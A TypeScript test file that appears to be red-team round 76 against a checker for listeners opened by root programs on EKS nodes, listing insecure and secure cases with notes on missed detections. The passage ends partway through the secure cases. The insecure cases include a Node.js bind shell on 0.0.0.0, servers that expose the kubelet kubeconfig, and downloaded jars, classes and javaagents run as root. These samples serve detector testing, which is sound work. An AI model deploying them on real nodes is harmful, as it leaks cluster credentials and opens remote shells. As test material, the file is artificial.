// Red-team round 76 (fresh eyes) on EKS NODE security, area nsec: listeners of programs root runs on nodes, hardest on
// round 76's fixes: a Node.js program read in full skips the unit-environment listen-variable rule (javascript.ts
// nodeProgramReadInFull, systemd.ts environmentListeners), and javac writes only class files (rootWrites.ts
// javacWrites) so `javac` + `java -cp . Main` is judged by the Java reader.
// Probed: process.loadEnvFile (plain and destructured), process["env"] assignment, a --require preload, NODE_PATH over a
// known package, env(1) in ExecStart=, systemctl set-environment/import-environment, systemd-run --setenv, /run drop-ins,
// DefaultEnvironment=, a downloaded EnvironmentFile=, --env-file-if-exists, sudo -E, a process.env alias; javac then a
// replaced Main.class, a downloaded Srv.class or jar on the run's class path, JEP 458 multi-file source launch, two
// sources, implicit compilation, a packaged class under -d, JDK_JAVA_OPTIONS exported; secure loopback variants.
// Misses (9 insecure accepted, 4 secure refused):
// - insecure, LOADENVFILE (2): process.loadEnvFile(".env") / destructured from node:process sets HOST=0.0.0.0.
// - insecure, PROCESS-BRACKET-ENV: process["env"].HOST = "0.0.0.0" (only the dotted spelling is checked).
// - insecure, NODE-PATH-ENV: unit NODE_PATH=/opt/mods makes require("express") run a written relay on 0.0.0.0.
// - insecure, ENV-IN-EXECSTART: ExecStart=/usr/bin/env HOST=0.0.0.0 /usr/bin/node a.js.
// - insecure, CLASS-FILE-REPLACED: curl over javac's Main.class before `java -cp . Main`.
// - insecure, JDK-JAVA-OPTIONS: exported JDK_JAVA_OPTIONS=-javaagent:downloaded.jar before `java -cp . Main`.
// - insecure, JAR-/CLASS-ON-RUN-CLASSPATH (2): `java -cp /opt/lib/dep.jar:. Main` or a downloaded ./Srv.class, Main
//   calling a class only the download has.
// - secure, JAVA-NO-ARGUMENTS (2): `java -cp . Main` with no argv (default literal 127.0.0.1) refused as unread on *.
// - secure, SHELL-ENV-CLEARED (2): env -u HOST / env -i PATH=... node a.js refused as every address.
// Held: 14 of 23 insecure refused (-r preload, systemctl set-/import-environment, systemd-run --setenv,
// --env-file-if-exists, /run drop-in, DefaultEnvironment=, downloaded EnvironmentFile=, sudo -E, env alias, JEP 458,
// two sources, implicit Srv.java, packaged -d class on 0.0.0.0); 10 of 14 secure clean
// (LISTEN_ADDR/HOST/EnvironmentFile= beside literal loopback, nodejs, unset BIND default, javac -d/-proc:none/-g,
// nested class with an argument, README beside sources, loadEnvFile of a loopback HOST, two loopback sources).
import { describeNodeCases, devNodeCase, devNodeScript, heredocFile, NodeCase, systemdUnit } from "./nodeBuilders";

const dev = devNodeCase;
const script = devNodeScript;
const file = heredocFile;

/** A Node.js reader of / on 8081 at `host` (a JavaScript expression). */
const nodeExpr = (host: string) => [
    'const http = require("http");',
    'const fs = require("fs");',
    `http.createServer((q, s) => fs.createReadStream(q.url).pipe(s)).listen(8081, ${host});`,
];
const HOST_OR_LO = 'process.env.HOST || "127.0.0.1"';
/** A Java ServerSocket on getByName(a[0]) (default loopback) answering with the kubelet's kubeconfig. */
const JAVA_ARGV_SERVER = [
    "import java.net.*;",
    "public class Main {",
    "    public static void main(String[] a) throws Exception {",
    '        String host = a.length > 0 ? a[0] : "127.0.0.1";',
    "        ServerSocket s = new ServerSocket(8081, 50, InetAddress.getByName(host));",
    '        while (true) { Socket c = s.accept(); c.getOutputStream().write(java.nio.file.Files.readAllBytes(java.nio.file.Path.of("/var/lib/kubelet/kubeconfig"))); c.close(); }',
    "    }",
    "}",
];
/** JAVA_ARGV_SERVER answering "ok" (no file read). */
const JAVA_OK_SERVER = JAVA_ARGV_SERVER.map(l =>
    l.includes("kubeconfig") ? l.replace(/java\.nio.*\)\)\)/, '"ok".getBytes())') : l,
);
const javaApp = (name: string, main: string[], run: string, pre: string[] = []) =>
    script(name, [...pre, ...file("/opt/ops/Main.java", main), `cd /opt/ops && ${run}`]);
/** Srv.java: a kubeconfig server on every address, started by Srv.start(). */
const JAVA_SRV = [
    "import java.net.*;",
    "public class Srv {",
    "    public static void start() throws Exception {",
    '        ServerSocket s = new ServerSocket(8082, 50, InetAddress.getByName("0.0.0.0"));',
    '        while (true) { Socket c = s.accept(); c.getOutputStream().write(java.nio.file.Files.readAllBytes(java.nio.file.Path.of("/var/lib/kubelet/kubeconfig"))); c.close(); }',
    "    }",
    "}",
];
const JAVA_MAIN_CALLS_SRV = [
    "public class Main {",
    "    public static void main(String[] a) throws Exception { Srv.start(); }",
    "}",
];

const insecure: NodeCase[] = [
    // ---- Node.js programs read in full (nodeProgramReadInFull) ----
    // Node.js "process.loadEnvFile(path)": "Loads the .env file into process.env" (v21.7.0+): HOST=0.0.0.0 reaches
    // the listen although the unit's environment has no HOST.
    // Was a MISS (fixed in round 76): LOADENVFILE (insecure). Node.js "process.loadEnvFile(path)" loads .env into process.env, so HOST=0.0.0.0 reaches the
    // listen: a kubeconfig-reading file server on every address. The pack accepts: loadEnvFile is outside NODE_PROCESS_OK yet the
    // program is judged with the unit's known environment (javascript.ts nodeProgramListeners environment/nodeProgramReadInFull).
    // Fix: any process member outside NODE_PROCESS_OK (loadEnvFile) makes the environment unknown (every address).
    dev(
        "unit runs node a.js; a.js calls process.loadEnvFile(/opt/ops/.env) (HOST=0.0.0.0) then HOST || 127.0.0.1",
        script("dev-nsec1-rt76n", [
            ...file("/opt/ops/.env", ["HOST=0.0.0.0"]),
            ...file("/opt/ops/a.js", ['process.loadEnvFile("/opt/ops/.env");', ...nodeExpr(HOST_OR_LO)]),
            ...systemdUnit("ops", ["Environment=PORT=8081", "ExecStart=/usr/bin/node /opt/ops/a.js"]),
        ]),
    ),
    // ECMAScript property access: process["env"] is process.env; assigning HOST there changes what the listen reads.
    // Was a MISS (fixed in round 76): PROCESS-BRACKET-ENV (insecure). process["env"] is process.env (ECMAScript property access): the assignment makes the
    // listen 0.0.0.0. The pack's assignment check (javascript.ts nodeProgramListeners, the process\s*.\s*env regex) sees only the
    // dotted spelling. Fix: treat process[...] (any computed member of process) as an unknown environment / unread code.
    dev(
        'unit runs node a.js; process["env"].HOST = "0.0.0.0" before listen(HOST || 127.0.0.1)',
        script("dev-nsec2-rt76n", [
            ...file("/opt/ops/a.js", ['process["env"].HOST = "0.0.0.0";', ...nodeExpr(HOST_OR_LO)]),
            ...systemdUnit("ops", ["Environment=PORT=8081", "ExecStart=/usr/bin/node /opt/ops/a.js"]),
        ]),
    ),
    // Node.js "Command-line API" -r/--require: "Preload the specified module at startup"; the preload sets HOST.
    dev(
        "unit ExecStart=node -r /opt/ops/pre.js a.js; pre.js sets process.env.HOST=0.0.0.0",
        script("dev-nsec3-rt76n", [
            ...file("/opt/ops/pre.js", ['process.env.HOST = "0.0.0.0";']),
            ...file("/opt/ops/a.js", nodeExpr(HOST_OR_LO)),
            ...systemdUnit("ops", [
                "Environment=PORT=8081",
                "ExecStart=/usr/bin/node -r /opt/ops/pre.js /opt/ops/a.js",
            ]),
        ]),
    ),
    // Node.js "Modules: CommonJS", "Loading from the global folders": "If the NODE_PATH environment variable is set to
    // a colon-delimited list of absolute paths, then Node.js will search those paths for modules if they are not found
    // elsewhere": require("express") loads /opt/mods/express, a root shell relay on every address.
    // Was a MISS (fixed in round 76): NODE-PATH-ENV (insecure). Node.js "Loading from the global folders" (NODE_PATH searched when a module is not found in
    // node_modules): require("express") runs /opt/mods/express, a root shell on 0.0.0.0:8082. The pack trusts "express" by name
    // (NODE_KNOWN_MODULES) whatever NODE_PATH says. Fix: NODE_PATH in the program's environment (unit, manager, exported) makes
    // every package require unread (or resolve packages through it and read what user data wrote there).
    dev(
        "unit Environment=NODE_PATH=/opt/mods; /opt/mods/express/index.js written (0.0.0.0 relay); a.js requires express",
        script("dev-nsec4-rt76n", [
            ...file("/opt/mods/express/index.js", [
                'require("net").createServer(c => c.pipe(require("child_process").spawn("/bin/sh").stdin)).listen(8082, "0.0.0.0");',
                "module.exports = () => ({ listen() {} });",
            ]),
            ...file("/opt/ops/a.js", [
                'const express = require("express");',
                "const app = express();",
                'app.listen(8081, "127.0.0.1");',
            ]),
            ...systemdUnit("ops", ["Environment=NODE_PATH=/opt/mods", "ExecStart=/usr/bin/node /opt/ops/a.js"]),
        ]),
    ),
    // systemctl(1) set-environment: "Set one or more systemd manager environment variables, as specified on the
    // command line"; systemd.exec(5): the manager's environment is passed to the services it starts.
    dev(
        "systemctl set-environment HOST=0.0.0.0; unit runs node a.js (HOST || 127.0.0.1)",
        script("dev-nsec5-rt76n", [
            ...file("/opt/ops/a.js", nodeExpr(HOST_OR_LO)),
            ...systemdUnit("ops", ["ExecStart=/usr/bin/node /opt/ops/a.js"]),
            "systemctl set-environment HOST=0.0.0.0",
            "systemctl restart ops",
        ]),
    ),
    // systemd-run(1) "-E, --setenv=NAME[=VALUE]: Runs the service process with the specified environment variable set".
    dev(
        "systemd-run --setenv=HOST=0.0.0.0 /usr/bin/node a.js (HOST || 127.0.0.1)",
        script("dev-nsec6-rt76n", [
            ...file("/opt/ops/a.js", nodeExpr(HOST_OR_LO)),
            "systemd-run --unit ops --setenv=HOST=0.0.0.0 /usr/bin/node /opt/ops/a.js",
        ]),
    ),
    // env(1) "NAME=VALUE ... COMMAND": the unit's program gets HOST from env, not from Environment=.
    // Was a MISS (fixed in round 76): ENV-IN-EXECSTART (insecure). env(1) sets HOST=0.0.0.0 for node; the unit's Environment= is all the pack sees
    // (systemd.ts unitProgramEnvironment / nodeProgramReadInFull skipping environmentListeners), so HOST || 127.0.0.1 reads as
    // loopback. Fix: ExecStart= through env NAME=VALUE (or any env wrapper) adds those names to the program environment (or
    // makes it unknown).
    dev(
        "unit ExecStart=/usr/bin/env HOST=0.0.0.0 /usr/bin/node a.js (HOST || 127.0.0.1)",
        script("dev-nsec7-rt76n", [
            ...file("/opt/ops/a.js", nodeExpr(HOST_OR_LO)),
            ...systemdUnit("ops", [
                "Environment=PORT=8081",
                "ExecStart=/usr/bin/env HOST=0.0.0.0 /usr/bin/node /opt/ops/a.js",
            ]),
        ]),
    ),
    // Node.js "Command-line API" --env-file-if-exists (v22.9.0): like --env-file, no error when missing.
    dev(
        "unit ExecStart=node --env-file-if-exists=/opt/ops/.env a.js (HOST=0.0.0.0)",
        script("dev-nsec8-rt76n", [
            ...file("/opt/ops/.env", ["HOST=0.0.0.0"]),
            ...file("/opt/ops/a.js", nodeExpr(HOST_OR_LO)),
            ...systemdUnit("ops", [
                "Environment=PORT=8081",
                "ExecStart=/usr/bin/node --env-file-if-exists=/opt/ops/.env /opt/ops/a.js",
            ]),
        ]),
    ),
    // ---- javac then java (javacWrites) ----
    // JDK "java" launcher: the class is loaded from the class path, i.e. the Main.class file present at run time: a
    // downloaded class file replacing javac's output runs bytecode no reader read.
    // Was a MISS (fixed in round 76): CLASS-FILE-REPLACED (insecure). JDK "java": the class is loaded from the class path at run time; curl replaced
    // javac's Main.class with downloaded bytecode. The pack judges the run by Main.java (commandServers.ts builtPrograms) ignoring
    // the later write. Fix: a write to a built output (or any .class file on the run's class path) after the build makes the run
    // unread code.
    dev(
        "javac Main.java; curl -o Main.class (downloaded); java -cp . Main 127.0.0.1",
        javaApp(
            "dev-nsec9-rt76n",
            JAVA_OK_SERVER,
            "javac Main.java && curl -fsSL -o /opt/ops/Main.class https://artifacts.example.com/Main.class && nohup java -cp . Main 127.0.0.1 >/var/log/ops.log 2>&1 &",
        ),
    ),
    // JEP 458 "Launch Multi-File Source-Code Programs" (JDK 22): `java Main.java` compiles other .java files in the
    // same directory on demand: Srv.java listens on every address serving the kubeconfig.
    dev(
        "java Main.java (JEP 458: Srv.java beside it listens on 0.0.0.0 with the kubeconfig)",
        javaApp(
            "dev-nsec10-rt76n",
            JAVA_MAIN_CALLS_SRV,
            "nohup java Main.java >/var/log/ops.log 2>&1 &",
            file("/opt/ops/Srv.java", JAVA_SRV),
        ),
    ),
    // JDK javac: every source file operand is compiled; Main calls Srv.start().
    dev(
        "javac Main.java Srv.java && java -cp . Main (Srv on 0.0.0.0 with the kubeconfig)",
        javaApp(
            "dev-nsec11-rt76n",
            JAVA_MAIN_CALLS_SRV,
            "javac Main.java Srv.java && nohup java -cp . Main >/var/log/ops.log 2>&1 &",
            file("/opt/ops/Srv.java", JAVA_SRV),
        ),
    ),
    // javac "-implicit:class" (default): Srv.java, found on the source path (the class path "."), is compiled too.
    dev(
        "javac Main.java (Srv.java found implicitly) && java -cp . Main",
        javaApp(
            "dev-nsec12-rt76n",
            JAVA_MAIN_CALLS_SRV,
            "javac Main.java && nohup java -cp . Main >/var/log/ops.log 2>&1 &",
            file("/opt/ops/Srv.java", JAVA_SRV),
        ),
    ),
    // javac "-d": a packaged class under out/ops/; `java -cp out ops.Main 0.0.0.0` (kubeconfig on every address).
    dev(
        "javac -d out Main.java (package ops) && java -cp out ops.Main 0.0.0.0",
        javaApp(
            "dev-nsec13-rt76n",
            ["package ops;", ...JAVA_ARGV_SERVER],
            "javac -d out Main.java && nohup java -cp out ops.Main 0.0.0.0 >/var/log/ops.log 2>&1 &",
        ),
    ),
    // JDK "java": "JDK_JAVA_OPTIONS ... content is prepended to the command line" (java launcher only): an agent jar
    // downloaded.
    // Was a MISS (fixed in round 76): JDK-JAVA-OPTIONS (insecure). JDK "java" launcher: "JDK_JAVA_OPTIONS ... content ... prepended to the command line"
    // (java(1) "Using the JDK_JAVA_OPTIONS Launcher Environment Variable"; -javaagent allowed): a downloaded agent runs in
    // root's JVM. Accepted: javacWrites checks JDK_JAVAC_OPTIONS/JAVA_TOOL_OPTIONS/_JAVA_OPTIONS for javac, but the run of its
    // output (commandServers.ts builtPrograms) does not judge the exported JDK_JAVA_OPTIONS as the java launcher's options
    // (systemd.ts JVM_OPTION_VARIABLES reading apparently not reached for a built program's run). Fix: judge exported
    // JDK_JAVA_OPTIONS/JAVA_TOOL_OPTIONS/_JAVA_OPTIONS for
    // `java -cp DIR Main` runs of javac outputs as for other java commands.
    dev(
        "export JDK_JAVA_OPTIONS=-javaagent:/opt/lib/a.jar; javac Main.java && java -cp . Main 127.0.0.1",
        javaApp(
            "dev-nsec14-rt76n",
            JAVA_OK_SERVER,
            "javac Main.java && nohup java -cp . Main 127.0.0.1 >/var/log/ops.log 2>&1 &",
            [
                "mkdir -p /opt/lib && curl -fsSL -o /opt/lib/a.jar https://artifacts.example.com/a.jar",
                "export JDK_JAVA_OPTIONS=-javaagent:/opt/lib/a.jar",
            ],
        ),
    ),
    // java -cp . with a jar beside: `-cp .:/opt/lib/dep.jar` and Main calling a class only the downloaded jar has.
    // Was a MISS (fixed in round 76): JAR-ON-RUN-CLASSPATH (insecure). JDK "java -cp": classes are found in every class path entry; Srv comes from the
    // downloaded dep.jar (Srv.start() could be anything). The Java reader reads Main.java only and finds no listener, so the
    // program is accepted. Fix: a run whose class path holds a jar/dir the pack does not read (or whose sources call classes
    // not among the compiled sources) is unread code.
    dev(
        "javac -cp /opt/lib/dep.jar:. Main.java && java -cp /opt/lib/dep.jar:. Main (Srv in downloaded jar)",
        javaApp(
            "dev-nsec15-rt76n",
            JAVA_MAIN_CALLS_SRV,
            "javac -proc:none -cp /opt/lib/dep.jar:. Main.java && nohup java -cp /opt/lib/dep.jar:. Main >/var/log/ops.log 2>&1 &",
            ["mkdir -p /opt/lib && curl -fsSL -o /opt/lib/dep.jar https://artifacts.example.com/dep.jar"],
        ),
    ),
    // systemd.unit(5) unit search path: /run/systemd/system (runtime units) with drop-ins; HOST from a /run drop-in.
    dev(
        "drop-in /run/systemd/system/ops.service.d/env.conf Environment=HOST=0.0.0.0; node a.js (HOST || 127.0.0.1)",
        script("dev-nsec16-rt76n", [
            ...file("/opt/ops/a.js", nodeExpr(HOST_OR_LO)),
            ...systemdUnit("ops", ["Environment=PORT=8081", "ExecStart=/usr/bin/node /opt/ops/a.js"]),
            ...file("/run/systemd/system/ops.service.d/env.conf", ["[Service]", "Environment=HOST=0.0.0.0"]),
            "systemctl daemon-reload && systemctl restart ops",
        ]),
    ),
    // systemd-system.conf(5) DefaultEnvironment=: "Configures environment variables passed to all executed processes".
    dev(
        "system.conf.d DefaultEnvironment=HOST=0.0.0.0; unit runs node a.js (HOST || 127.0.0.1)",
        script("dev-nsec17-rt76n", [
            ...file("/etc/systemd/system.conf.d/env.conf", ["[Manager]", "DefaultEnvironment=HOST=0.0.0.0"]),
            ...file("/opt/ops/a.js", nodeExpr(HOST_OR_LO)),
            ...systemdUnit("ops", ["Environment=PORT=8081", "ExecStart=/usr/bin/node /opt/ops/a.js"]),
            "systemctl daemon-reexec && systemctl restart ops",
        ]),
    ),
    // systemctl(1) import-environment: "Import all, one or more environment variables set on the client into the
    // systemd manager environment block".
    dev(
        "export HOST=0.0.0.0; systemctl import-environment HOST; unit runs node a.js (HOST || 127.0.0.1)",
        script("dev-nsec18-rt76n", [
            ...file("/opt/ops/a.js", nodeExpr(HOST_OR_LO)),
            ...systemdUnit("ops", ["Environment=PORT=8081", "ExecStart=/usr/bin/node /opt/ops/a.js"]),
            "export HOST=0.0.0.0",
            "systemctl import-environment HOST && systemctl restart ops",
        ]),
    ),
    // systemd.exec(5) EnvironmentFile=: a downloaded file (its content unknown) may set HOST.
    dev(
        "unit EnvironmentFile=/opt/ops/env (downloaded); node a.js (HOST || 127.0.0.1)",
        script("dev-nsec19-rt76n", [
            "mkdir -p /opt/ops && curl -fsSL -o /opt/ops/env https://artifacts.example.com/env",
            ...file("/opt/ops/a.js", nodeExpr(HOST_OR_LO)),
            ...systemdUnit("ops", ["EnvironmentFile=/opt/ops/env", "ExecStart=/usr/bin/node /opt/ops/a.js"]),
        ]),
    ),
    // Node.js "process.loadEnvFile" through require("node:process") destructuring.
    // Was a MISS (fixed in round 76): LOADENVFILE (insecure), destructured: `const { loadEnvFile } = require("node:process")` calls the same
    // function (Node.js "process.loadEnvFile(path)", "Loads the .env file into process.env"); node:process is not
    // in NODE_KNOWN_MODULES, so this is not nodeProgramReadInFull's doing: the round-74 "environment fully known" reading
    // (javascript.ts nodeProgramListeners `environment`) still takes the unit's environment as the program's. Fix: as dev-nsec1-rt76n, plus any import of node:process members outside NODE_PROCESS_OK.
    dev(
        'const { loadEnvFile } = require("node:process"); loadEnvFile(".env") (HOST=0.0.0.0) in a unit',
        script("dev-nsec20-rt76n", [
            ...file("/opt/ops/.env", ["HOST=0.0.0.0"]),
            ...file("/opt/ops/a.js", [
                'const { loadEnvFile } = require("node:process");',
                'loadEnvFile("/opt/ops/.env");',
                ...nodeExpr(HOST_OR_LO),
            ]),
            ...systemdUnit("ops", ["Environment=PORT=8081", "ExecStart=/usr/bin/node /opt/ops/a.js"]),
        ]),
    ),
    // A class file downloaded beside Main (no Srv.java): JDK "java -cp ." loads Srv from ./Srv.class.
    // Was a MISS (fixed in round 76): CLASS-ON-RUN-CLASSPATH (insecure). JDK "java -cp .": Srv is loaded from the downloaded ./Srv.class (bytecode no
    // reader reads; it may serve the kubeconfig on 0.0.0.0). The Java reader reads Main.java only, finds no listener there
    // and accepts (commandServers.ts builtPrograms/sourcesListeners). Fix: a class path directory holding a .class or .jar
    // user data did not get from javac (or a source that names a type none of the compiled sources declare) is unread code.
    dev(
        "curl -o Srv.class; javac Main.java && java -cp . Main (Main calls Srv.start())",
        javaApp(
            "dev-nsec21-rt76n",
            JAVA_MAIN_CALLS_SRV,
            "javac -proc:none Main.java && nohup java -cp . Main >/var/log/ops.log 2>&1 &",
            ["mkdir -p /opt/ops && curl -fsSL -o /opt/ops/Srv.class https://artifacts.example.com/Srv.class"],
        ),
    ),
    // sudo(8) -E/--preserve-env: "preserve their existing environment variables": HOST=0.0.0.0 reaches node.
    dev(
        "export HOST=0.0.0.0; sudo -E node a.js (HOST || 127.0.0.1)",
        script("dev-nsec22-rt76n", [
            ...file("/opt/ops/a.js", nodeExpr(HOST_OR_LO)),
            "export HOST=0.0.0.0",
            "nohup sudo -E node /opt/ops/a.js >/var/log/ops.log 2>&1 &",
        ]),
    ),
    // An alias of process.env (ECMAScript: the same object) read after the unit's HOST=0.0.0.0.
    dev(
        "unit Environment=HOST=0.0.0.0; const env = process.env; listen(env.HOST || 127.0.0.1)",
        script("dev-nsec23-rt76n", [
            ...file("/opt/ops/a.js", ["const env = process.env;", ...nodeExpr('env.HOST || "127.0.0.1"')]),
            ...systemdUnit("ops", ["Environment=HOST=0.0.0.0", "ExecStart=/usr/bin/node /opt/ops/a.js"]),
        ]),
    ),
    // ---- Round 76 fixer's neighbours ----
    // env(1) -i then NAME=VALUE: the insecure twin of dev-nsec14s-rt76n (HOST set by env itself).
    dev(
        "env -i PATH=/usr/bin HOST=0.0.0.0 node a.js (HOST || 127.0.0.1)",
        script("dev-nsec24-rt76n", [
            ...file("/opt/ops/a.js", nodeExpr(HOST_OR_LO)),
            "nohup env -i PATH=/usr/bin HOST=0.0.0.0 node /opt/ops/a.js >/var/log/ops.log 2>&1 &",
        ]),
    ),
    // ECMAScript "The Global Object": globalThis.process is process; the assignment reaches the listen.
    dev(
        'unit runs node a.js; globalThis.process.env.HOST = "0.0.0.0" before listen(HOST || 127.0.0.1)',
        script("dev-nsec25-rt76n", [
            ...file("/opt/ops/a.js", ['globalThis.process.env.HOST = "0.0.0.0";', ...nodeExpr(HOST_OR_LO)]),
            ...systemdUnit("ops", ["Environment=PORT=8081", "ExecStart=/usr/bin/node /opt/ops/a.js"]),
        ]),
    ),
    // process handed on (an alias): p["env"].HOST is process.env.HOST.
    dev(
        'unit runs node a.js; const p = process; p["env"].HOST = "0.0.0.0"',
        script("dev-nsec26-rt76n", [
            ...file("/opt/ops/a.js", ["const p = process;", 'p["env"].HOST = "0.0.0.0";', ...nodeExpr(HOST_OR_LO)]),
            ...systemdUnit("ops", ["Environment=PORT=8081", "ExecStart=/usr/bin/node /opt/ops/a.js"]),
        ]),
    ),
    // Node.js "process.loadEnvFile(path)" default './.env' (the unit's WorkingDirectory=), HOST=0.0.0.0 there.
    dev(
        "unit WorkingDirectory=/opt/ops; process.loadEnvFile() (./.env HOST=0.0.0.0)",
        script("dev-nsec27-rt76n", [
            ...file("/opt/ops/.env", ["HOST=0.0.0.0"]),
            ...file("/opt/ops/a.js", ["process.loadEnvFile();", ...nodeExpr(HOST_OR_LO)]),
            ...systemdUnit("ops", [
                "WorkingDirectory=/opt/ops",
                "Environment=PORT=8081",
                "ExecStart=/usr/bin/node /opt/ops/a.js",
            ]),
        ]),
    ),
    // loadEnvFile of a downloaded file (its content unknown).
    dev(
        "curl -o /opt/ops/.env; unit runs node a.js; process.loadEnvFile(/opt/ops/.env)",
        script("dev-nsec28-rt76n", [
            "mkdir -p /opt/ops && curl -fsSL -o /opt/ops/.env https://artifacts.example.com/env",
            ...file("/opt/ops/a.js", ['process.loadEnvFile("/opt/ops/.env");', ...nodeExpr(HOST_OR_LO)]),
            ...systemdUnit("ops", ["Environment=PORT=8081", "ExecStart=/usr/bin/node /opt/ops/a.js"]),
        ]),
    ),
    // JVMTI "JAVA_TOOL_OPTIONS" exported before the run of javac's output: an agent in root's JVM.
    dev(
        "export JAVA_TOOL_OPTIONS=-javaagent:/opt/lib/a.jar; javac Main.java && java -cp . Main 127.0.0.1",
        javaApp(
            "dev-nsec29-rt76n",
            JAVA_OK_SERVER,
            "javac Main.java && nohup java -cp . Main 127.0.0.1 >/var/log/ops.log 2>&1 &",
            [
                "mkdir -p /opt/lib && curl -fsSL -o /opt/lib/a.jar https://artifacts.example.com/a.jar",
                "export JAVA_TOOL_OPTIONS=-javaagent:/opt/lib/a.jar",
            ],
        ),
    ),
    // A downloaded jar into javac's -d directory after the build, on the run's class path directory.
    dev(
        "javac -d /opt/ops/classes Main.java; curl -o /opt/ops/classes/Main.class; java -cp /opt/ops/classes Main 127.0.0.1",
        javaApp(
            "dev-nsec30-rt76n",
            JAVA_OK_SERVER,
            "javac -d /opt/ops/classes Main.java && curl -fsSL -o /opt/ops/classes/Main.class https://artifacts.example.com/Main.class && nohup java -cp /opt/ops/classes Main 127.0.0.1 >/var/log/ops.log 2>&1 &",
        ),
    ),
];

const secure: NodeCase[] = [
    // env(1) "-u, --unset=NAME: remove variable from the environment": HOST is gone, `|| "127.0.0.1"` binds loopback.
    // MISS: SHELL-ENV-CLEARED (secure). env(1) -u NAME / -i give node an environment without HOST, so `HOST || "127.0.0.1"`
    // is loopback. The pack refuses "createReadStream serving files on every address": a script command's program
    // environment is taken as unknown (javascript.ts nodeProgramListeners: view.programEnvironment undefined outside units)
    // even when env -i makes it fully known or env -u removes the one variable read. Fix: env -i NAME=V... gives a known
    // environment; env -u NAME marks NAME unset (fail-closed elsewhere is right).
    // Still open (round 76): env -i is read (systemd.ts envWrapperEnvironment), but a script's environment is unknown and
    // ScriptView.programEnvironment can only say "fully known"; -u HOST needs a partial environment (known unset names,
    // the rest unknown) read by jsEnvironmentValues and the NODE_OPTIONS/NODE_PATH checks.
    dev(
        "export HOST=0.0.0.0; env -u HOST node a.js (HOST || 127.0.0.1)",
        script("dev-nsec13s-rt76n", [
            ...file("/opt/ops/a.js", nodeExpr(HOST_OR_LO)),
            "export HOST=0.0.0.0",
            "nohup env -u HOST node /opt/ops/a.js >/var/log/ops.log 2>&1 &",
        ]),
        /./,
        true,
    ),
    // env(1) "-i, --ignore-environment: start with an empty environment".
    // Was a MISS (fixed in round 76): SHELL-ENV-CLEARED (secure). env(1) -u NAME / -i give node an environment without HOST, so `HOST || "127.0.0.1"`
    // is loopback. The pack refuses "createReadStream serving files on every address": a script command's program
    // environment is taken as unknown (javascript.ts nodeProgramListeners: view.programEnvironment undefined outside units)
    // even when env -i makes it fully known or env -u removes the one variable read. Fix: env -i NAME=V... gives a known
    // environment; env -u NAME marks NAME unset (fail-closed elsewhere is right).
    dev(
        "export HOST=0.0.0.0; env -i PATH=/usr/bin node a.js (HOST || 127.0.0.1)",
        script("dev-nsec14s-rt76n", [
            ...file("/opt/ops/a.js", nodeExpr(HOST_OR_LO)),
            "export HOST=0.0.0.0",
            "nohup env -i PATH=/usr/bin node /opt/ops/a.js >/var/log/ops.log 2>&1 &",
        ]),
    ),
    // MISS: JAVA-NO-ARGUMENTS (secure), control of dev-nsec7s without the nested class: refused the same way.
    // Still open (round 76): not reached in time; builtPrograms' javac record (sourcesListeners with
    // commandLineAddresses of the run's argv) must be traced for an empty argv.
    dev(
        "javac Main.java && java -cp . Main (no arguments: default 127.0.0.1)",
        javaApp(
            "dev-nsec9s-rt76n",
            JAVA_OK_SERVER,
            "javac Main.java && nohup java -cp . Main >/var/log/ops.log 2>&1 &",
        ),
        /./,
        true,
    ),
    // A static nested class, run with 127.0.0.1 (JLS 8.1.3 member classes: class file Main$H.class).
    dev(
        "javac Main.java (nested static class H) && java -cp . Main 127.0.0.1",
        javaApp(
            "dev-nsec12s-rt76n",
            [...JAVA_OK_SERVER.slice(0, -1), '    static class H { static String ok() { return "ok"; } }', "}"],
            "javac Main.java && nohup java -cp . Main 127.0.0.1 >/var/log/ops.log 2>&1 &",
        ),
    ),
    // A text file beside the sources (the class path "."): java loads classes, not README files.
    dev(
        "README.txt written beside Main.java; javac Main.java && java -cp . Main 127.0.0.1",
        javaApp(
            "dev-nsec10s-rt76n",
            JAVA_OK_SERVER,
            "javac Main.java && nohup java -cp . Main 127.0.0.1 >/var/log/ops.log 2>&1 &",
            file("/opt/ops/README.txt", ["ops server"]),
        ),
    ),
    // process.loadEnvFile of a file user data wrote with HOST=127.0.0.1 (Node.js "process.loadEnvFile").
    dev(
        "unit runs node a.js; loadEnvFile(/opt/ops/.env) HOST=127.0.0.1",
        script("dev-nsec11s-rt76n", [
            ...file("/opt/ops/.env", ["HOST=127.0.0.1"]),
            ...file("/opt/ops/a.js", ['process.loadEnvFile("/opt/ops/.env");', ...nodeExpr(HOST_OR_LO)]),
            ...systemdUnit("ops", ["Environment=PORT=8081", "ExecStart=/usr/bin/node /opt/ops/a.js"]),
        ]),
    ),
    // Node.js "net" server.listen(port, host): literal loopback; LISTEN_ADDR in the unit is no setting node reads.
    dev(
        "unit Environment=LISTEN_ADDR=0.0.0.0:9000; express app.listen(8081, 127.0.0.1)",
        script("dev-nsec1s-rt76n", [
            ...file("/opt/ops/a.js", [
                'const express = require("express");',
                "const app = express();",
                'app.get("/", (q, s) => s.send("ok"));',
                'app.listen(8081, "127.0.0.1");',
            ]),
            ...systemdUnit("ops", ["Environment=LISTEN_ADDR=0.0.0.0:9000", "ExecStart=/usr/bin/node /opt/ops/a.js"]),
        ]),
    ),
    // The unit's environment is fully known: BIND is unset, so `process.env.BIND || "127.0.0.1"` is loopback.
    dev(
        "unit Environment=HOST=0.0.0.0; node a.js listens on BIND || 127.0.0.1 (BIND unset)",
        script("dev-nsec2s-rt76n", [
            ...file("/opt/ops/a.js", nodeExpr('process.env.BIND || "127.0.0.1"')),
            ...systemdUnit("ops", ["Environment=HOST=0.0.0.0", "ExecStart=/usr/bin/node /opt/ops/a.js"]),
        ]),
    ),
    // systemd.exec(5) EnvironmentFile=; the program binds the literal ::1.
    dev(
        "unit EnvironmentFile=/opt/ops/env (HOST=0.0.0.0); node a.js listens on ::1",
        script("dev-nsec3s-rt76n", [
            ...file("/opt/ops/env", ["HOST=0.0.0.0"]),
            ...file("/opt/ops/a.js", nodeExpr('"::1"')),
            ...systemdUnit("ops", ["EnvironmentFile=/opt/ops/env", "ExecStart=/usr/bin/node /opt/ops/a.js"]),
        ]),
    ),
    // nodejs binary name (Debian), same program.
    dev(
        "unit Environment=HOST=0.0.0.0 ExecStart=/usr/bin/nodejs a.js (literal 127.0.0.1, ok responses)",
        script("dev-nsec4s-rt76n", [
            ...file("/opt/ops/a.js", [
                'require("http").createServer((q, s) => s.end("ok")).listen(8081, "127.0.0.1");',
            ]),
            ...systemdUnit("ops", ["Environment=HOST=0.0.0.0", "ExecStart=/usr/bin/nodejs /opt/ops/a.js"]),
        ]),
    ),
